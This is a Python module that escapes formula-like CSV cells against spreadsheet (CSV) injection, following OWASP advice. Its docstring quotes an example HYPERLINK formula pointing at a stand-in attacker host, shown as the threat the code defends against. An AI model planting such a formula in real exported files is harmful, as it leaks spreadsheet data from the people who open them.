"""CSV that a spreadsheet opens without running it: cells a person typed are neutralised.

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) is a formula to Excel, LibreOffice and Google Sheets: a building named
`=HYPERLINK("http://evil.example/?"&A1,"click")` in a mailed report would become a live link
that sends the sheet's cells away. OWASP's advice ("CSV Injection"): prefix such a cell with a
single quote, so it is shown as the text it is. Numbers stay numbers: an int or float, or a
string that is a plain number (`-380`, `1.5e-3`), is written as it is.

Every CSV the project writes goes through `writer()` (docs/SECURITY.md "CSV exports").
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text)) and text.strip() == text and "_" not in text
    except ValueError:
        return False


def cell(value: object) -> object:
    """The value as it may go into a CSV cell: a formula-like string gets a leading quote."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _is_number(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell (same writerow/writerows)."""

    def __init__(self, target, **kwargs) -> None:
        self._w = csv.writer(target, **kwargs)

    def writerow(self, row: Iterable[object]):
        return self._w.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target, **kwargs) -> SafeWriter:
    return SafeWriter(target, **kwargs)
